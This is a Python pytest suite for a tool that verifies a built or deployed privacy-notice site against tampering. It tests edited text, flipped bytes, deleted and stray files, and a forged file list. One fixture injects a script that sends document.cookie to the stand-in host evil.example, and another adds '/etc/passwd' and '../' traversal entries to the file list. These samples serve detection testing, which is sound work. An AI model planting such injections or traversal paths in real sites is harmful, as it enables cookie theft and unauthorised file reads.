"""``notices verify`` finds every kind of tampering with a built or deployed site (issue 17).

One site is built per module (a notice with a corrected version, an upcoming version,
a translation and a superseded notice: every page kind the tool writes), then copies
of it are tampered with the way a careless deploy or a hostile editor would: a changed
sentence, a flipped flag, an injected script, a byte changed in place (same size),
a deleted page, a stray file, the file list edited to match.
"""

from __future__ import annotations

import dataclasses
import json
import os
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from browser import serve
from conftest import SiteRepo, notice

from notices.base.model import NoticeSet
from notices.build.filelist import FILES
from notices.build.load import load_site
from notices.build.verify import verify_site
from notices.config.mkdocs_yml import load_options

NAME = "Example Ltd notices"  # site_name in conftest's mkdocs.yml: the feeds carry it
BODY = """\
# Privacy notice

## Who we are

Example Ltd, 1 Main Street.

## Why we use your data

To take orders.
"""


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[SiteRepo, NoticeSet]]:
    site = SiteRepo(tmp_path_factory.mktemp("verify") / "repo")
    site.commit("studio", {"docs/studio.md": notice("1", "2024-01-01", BODY, title="Studio notice")})
    site.commit("v1", {"docs/privacy.md": notice("1", "2024-01-01", BODY)})
    site.commit("v1 typo", {"docs/privacy.md": notice("1", "2024-01-01", BODY.replace("orders", "orders."))})
    site.commit(
        "v2",
        {
            "docs/privacy.md": notice("2", "2025-01-01", BODY + "\nAnd marketing.\n", supersedes="[studio]"),
            "docs/privacy.da.md": notice("2", "2025-01-01", "# Privatliv\n\nVi er Example.\n", title="Privatliv"),
            "changelog/privacy/2.md": "Marketing added.\n",
        },
    )
    site.commit("v3", {"docs/privacy.md": notice("3", "2027-01-01", BODY + "\nAnd ads.\n", supersedes="[studio]")})
    yield built_and_loaded(site)
    site.repo.close()


def built_and_loaded(site: SiteRepo) -> tuple[SiteRepo, NoticeSet]:
    """Build the site, and load its notices in this process as ``notices verify`` would."""
    site.build()
    options, _ = load_options(site.root / "mkdocs.yml")
    return site, load_site(dataclasses.replace(options, cache=False))


@pytest.fixture
def copy(built: tuple[SiteRepo, NoticeSet], tmp_path: Path) -> Path:
    target = tmp_path / "site"
    shutil.copytree(built[0].root / "site", target)
    return target


def _listing(site: Path) -> dict[str, Any]:
    return dict(json.loads((site / FILES).read_text()))


def _edit(site: Path, path: str, old: str, new: str) -> None:
    file = site / path
    text = file.read_text(encoding="utf-8")
    assert old in text, f"{old!r} not in {path}"
    file.write_text(text.replace(old, new, 1), encoding="utf-8")


def _flip(site: Path, path: str) -> None:
    """One byte changed in place: same size, same place (the edit a size check misses)."""
    file = site / path
    data = bytearray(file.read_bytes())
    middle = len(data) // 2
    data[middle] = ord("x") if data[middle] != ord("x") else ord("y")
    file.write_bytes(bytes(data))


def _about(problems: list[str], path: str) -> list[str]:
    return [p for p in problems if p.startswith(path + ": ")]


def test_the_file_list_names_every_file_of_the_tool_with_its_digest(copy: Path) -> None:
    listing = _listing(copy)
    paths = listing["paths"]
    for path in [
        "privacy/index.html",  # MkDocs' page, filled by the tool: its final bytes
        "privacy/1/index.html",
        "privacy/1/r1/index.html",
        "privacy/1/r2/index.html",
        "privacy/2/diff/index.html",
        "privacy/changelog/index.html",
        "privacy/compare/index.html",
        "privacy/feed.xml",
        "embed/privacy/index.html",
        "embed/notice.js",
        "api/v1/privacy.json",
        "api/v1/privacy/current.json",
        "api/v1/privacy/1.json",
        "api/v1/index.json",
        "api/v1/schema.json",
        "studio/1/index.html",
        "privacy.da/index.html",
        "assets/notices/notices.css",
        "assets/notices/notices.js",
        "feed.xml",
        "versions.json",
    ]:
        assert path in paths, path
    assert FILES not in paths and "index.html" not in paths and "sitemap.xml" not in paths  # MkDocs' own
    digest, size = paths["privacy/1/index.html"]
    assert len(digest) == 64 and size == (copy / "privacy/1/index.html").stat().st_size
    assert listing["today"] == "2026-06-01"
    assert all(len(p) == 2 for p in paths.values())  # path → [sha256, size], nothing more


def test_an_untouched_site_passes(built: tuple[SiteRepo, NoticeSet], copy: Path) -> None:
    assert verify_site(copy, built[1], NAME) == []


def test_every_kind_of_tampering_is_found_at_once(built: tuple[SiteRepo, NoticeSet], copy: Path) -> None:
    _edit(copy, "privacy/index.html", "To take orders", "To sell your data")
    _edit(copy, "embed/privacy/index.html", "To take orders", "To sell your data")
    _edit(copy, "api/v1/privacy/current.json", "And marketing.", "And sold data.")
    index = json.loads((copy / "api/v1/privacy.json").read_text())
    index["versions"][1]["material"] = not index["versions"][1]["material"]
    (copy / "api/v1/privacy.json").write_text(json.dumps(index, indent=1) + "\n")
    _edit(copy, "embed/notice.js", "(function", "fetch('https://evil.example/?'+document.cookie);(function")
    (copy / "privacy/2/diff/index.html").unlink()
    (copy / "api/v1/evil.json").write_text("{}")
    (copy / "privacy/9").mkdir()
    (copy / "privacy/9/index.html").write_text("<p>A fake version 9</p>")
    (copy / "embed/x.js").write_text("alert(1)")
    (copy / "assets/notices/extra.js").write_text("alert(1)")
    flipped = ["privacy/changelog/index.html", "privacy/compare/index.html", "studio/1/index.html", "privacy/feed.xml"]
    for path in flipped:
        _flip(copy, path)
    problems = verify_site(copy, built[1], NAME)
    for path in ["privacy/index.html", "embed/privacy/index.html", "api/v1/privacy/current.json", *flipped]:
        assert any("changed after the build" in p for p in _about(problems, path)), path
    assert any("`versions`" in p for p in _about(problems, "api/v1/privacy.json"))  # the Git check too
    assert any("the text differs from version 2 in Git" in p for p in _about(problems, "privacy/index.html"))
    assert _about(problems, "embed/notice.js") and _about(problems, "api/v1/privacy/current.json")
    assert any(
        "missing" in p and "a deploy must not drop files" in p for p in _about(problems, "privacy/2/diff/index.html")
    )
    for stray in ["api/v1/evil.json", "privacy/9/index.html", "embed/x.js", "assets/notices/extra.js"]:
        assert any("not written by the build" in p and "delete it" in p for p in _about(problems, stray)), stray
    assert all(": " in p and "rebuild" in p or "delete it" in p for p in problems)  # the path and what to do


def test_every_file_changed_in_place_is_found(built: tuple[SiteRepo, NoticeSet], copy: Path) -> None:
    paths = sorted(_listing(copy)["paths"])
    for path in paths:
        _flip(copy, path)
    problems = verify_site(copy, built[1], NAME)
    missed = [p for p in paths if not any("changed after the build" in x for x in _about(problems, p))]
    assert missed == []


def test_a_tamperer_who_also_edits_the_file_list_is_caught_by_git(
    built: tuple[SiteRepo, NoticeSet], copy: Path
) -> None:
    import hashlib

    listing = _listing(copy)
    for path, old, new in [
        ("api/v1/privacy/current.json", "To take orders", "To sell data"),
        ("privacy/1/r1/index.html", "To take orders", "To sell data"),
        ("privacy/index.html", "To take orders", "To sell data"),
        ("embed/privacy/index.html", "To take orders", "To sell data"),
    ]:
        _edit(copy, path, old, new)
        data = (copy / path).read_bytes()
        listing["paths"][path] = [hashlib.sha256(data).hexdigest(), len(data)]
    (copy / "privacy/2/diff/index.html").unlink()
    del listing["paths"]["privacy/2/diff/index.html"]
    (copy / FILES).write_text(json.dumps(listing))
    problems = verify_site(copy, built[1], NAME)
    assert not any("changed after the build" in p for p in problems)
    assert _about(problems, "api/v1/privacy/current.json") and _about(problems, "embed/privacy/index.html")
    assert any("differs from version 1 (revision 1)" in p for p in _about(problems, "privacy/1/r1/index.html"))
    assert any("differs from version 2" in p for p in _about(problems, "privacy/index.html"))
    assert any("missing" in p for p in _about(problems, "privacy/2/diff/index.html"))


@pytest.mark.parametrize(
    "damage", ["deleted", "not json", "another format", "bad entry", "outside", "absolute", "outside folder"]
)
def test_a_missing_or_damaged_file_list_is_reported(built: tuple[SiteRepo, NoticeSet], copy: Path, damage: str) -> None:
    file = copy / FILES
    if damage == "deleted":
        file.unlink()
    else:
        listing = _listing(copy)
        entry = listing["paths"]["privacy/index.html"]
        if damage == "bad entry":
            listing["paths"]["privacy/index.html"] = "abc"
        elif damage == "outside":  # an edited list must not make verify read files outside the site
            listing["paths"]["../../../../../../dev/zero"] = entry
        elif damage == "absolute":
            listing["paths"]["/etc/passwd"] = entry
        elif damage == "outside folder":
            listing["folders"].append("../")
        text = {"not json": "{", "another format": '{"files": 7, "paths": {}}'}
        file.write_text(text.get(damage) or json.dumps(listing))
    problems = verify_site(copy, built[1], NAME)
    assert len(_about(problems, FILES)) == 1 and "rebuild" in _about(problems, FILES)[0]


def test_a_warm_rebuild_writes_the_same_list(built: tuple[SiteRepo, NoticeSet], tmp_path: Path) -> None:
    """Digests come from the cache for unchanged files: they must still be the files' digests."""
    site = built[0]
    before = (site.root / "site" / FILES).read_bytes()
    site.build()
    assert (site.root / "site" / FILES).read_bytes() == before
    assert verify_site(site.root / "site", built[1], NAME) == []


# -- over HTTP (a real http.server on 127.0.0.1) ---------------------------------------------


def test_a_deployed_site_is_checked_over_http(built: tuple[SiteRepo, NoticeSet], copy: Path) -> None:
    with serve(copy) as url:
        _over_http(built[1], copy, url)


def _over_http(notices: NoticeSet, copy: Path, url: str) -> None:
    assert verify_site(url, notices, NAME) == []
    _edit(copy, "privacy/index.html", "To take orders", "To sell your data")
    _flip(copy, "privacy/compare/index.html")
    (copy / "privacy/2/diff/index.html").unlink()
    problems = verify_site(url, notices, NAME)
    assert any("changed after the build" in p for p in _about(problems, "privacy/index.html"))
    assert any("changed after the build" in p for p in _about(problems, "privacy/compare/index.html"))
    assert any("missing" in p for p in _about(problems, "privacy/2/diff/index.html"))


def test_every_file_changed_in_place_is_found_over_http(built: tuple[SiteRepo, NoticeSet], copy: Path) -> None:
    paths = sorted(_listing(copy)["paths"])
    for path in paths:
        _flip(copy, path)
    with serve(copy) as url:
        problems = verify_site(url, built[1], NAME)
    assert [p for p in paths if not any("changed after the build" in x for x in _about(problems, p))] == []


def test_a_deployed_site_without_its_file_list_says_so(built: tuple[SiteRepo, NoticeSet], copy: Path) -> None:
    (copy / FILES).unlink()
    _edit(copy, "api/v1/privacy/current.json", "To take orders", "To sell data")
    with serve(copy) as url:
        problems = verify_site(url, built[1], NAME)
    assert "missing, so changed, missing and stray files cannot be told" in _about(problems, FILES)[0]
    assert _about(problems, "api/v1/privacy/current.json")  # the Git checks still run


def test_the_cli_checks_a_url_and_a_folder(built: tuple[SiteRepo, NoticeSet], copy: Path) -> None:
    with serve(copy) as url:
        _cli(built[0], copy, url)


def _cli(site: SiteRepo, copy: Path, url: str) -> None:
    assert "unchanged" in site.notices("verify", url).stdout
    _edit(copy, "api/v1/privacy/current.json", "To take orders", "To sell data")
    result = site.notices("verify", url, check=False)
    assert result.returncode == 1 and "differs: api/v1/privacy/current.json: changed after the build" in result.stderr
    result = site.notices("verify", str(copy), check=False)
    assert result.returncode == 1 and "api/v1/privacy/current.json" in result.stderr
    nowhere = site.notices("verify", "ftp://example.org/", check=False)
    assert nowhere.returncode == 1 and "http(s)://" in nowhere.stderr
    missing = site.notices("verify", str(copy / "nope"), check=False)
    assert missing.returncode == 1 and "does not exist" in missing.stderr


def test_a_site_that_does_not_answer_is_one_clear_problem(built: tuple[SiteRepo, NoticeSet], copy: Path) -> None:
    with serve(copy) as url:
        pass  # the server is gone now
    problems = verify_site(url, built[1], NAME)
    assert len(problems) == 2 and problems[0].startswith("versions.json: could not fetch")


def test_a_list_that_claims_an_earlier_build_day_is_reported(built: tuple[SiteRepo, NoticeSet], copy: Path) -> None:
    """Replaying an older state of the site (built for a past day) must not pass."""
    listing = _listing(copy)
    listing["today"] = "2023-06-01"
    (copy / FILES).write_text(json.dumps(listing))
    problems = verify_site(copy, built[1], NAME)
    assert any("before its newest text was published" in p for p in _about(problems, FILES))


def test_a_notices_build_writes_the_list_too(built: tuple[SiteRepo, NoticeSet], tmp_path: Path) -> None:
    """The post-processing path (a site another generator built) records its files the same way."""
    from notices.build.into_site import build_site
    from notices.config.mkdocs_yml import site_name, site_url

    site = built[0]
    plain = tmp_path / "plain"
    config = site.root / "mkdocs.yml"
    text = config.read_text()
    try:
        config.write_text(text.replace("  - notices\n", ""))
        site.build("-d", str(plain))
    finally:
        config.write_text(text)
    options, _ = load_options(config)
    build_site(dataclasses.replace(options, cache=False), plain, site_url(config), site_name(config))
    assert verify_site(plain, built[1], NAME) == []
    built_list = _listing(site.root / "site")["paths"]
    assert set(_listing(plain)["paths"]) == set(built_list)


def test_a_damaged_digest_cache_is_not_believed(tmp_path: Path) -> None:
    """Kept digests save reading unchanged files again; a damaged cache must not put wrong ones in the list."""
    import datetime as dt

    from notices.build.filelist import file_list

    site, cache = tmp_path / "site", tmp_path / "cache"
    for n in range(5):
        (site / "api/v1").mkdir(parents=True, exist_ok=True)
        (site / f"api/v1/{n}.json").write_text("{}" * (n + 1))
    nothing = NoticeSet(notices={}, today=dt.date(2026, 6, 1))
    first = file_list(site, nothing, cache)
    kept = cache / "digests.bin"
    data = bytearray(kept.read_bytes())
    at = data.index(first["paths"]["api/v1/3.json"][0].encode()) + 5  # inside one kept digest
    data[at] = ord("0") if data[at] != ord("0") else ord("1")
    kept.write_bytes(bytes(data))
    assert file_list(site, nothing, cache) == first
    before = (site / "api/v1/3.json").stat().st_mtime_ns
    (site / "api/v1/3.json").write_text("[]" * 4)  # changed in place, same size: a new modification time
    os.utime(site / "api/v1/3.json", ns=(before, before + 1))  # even where the clock is coarse
    assert file_list(site, nothing, cache)["paths"]["api/v1/3.json"] != first["paths"]["api/v1/3.json"]
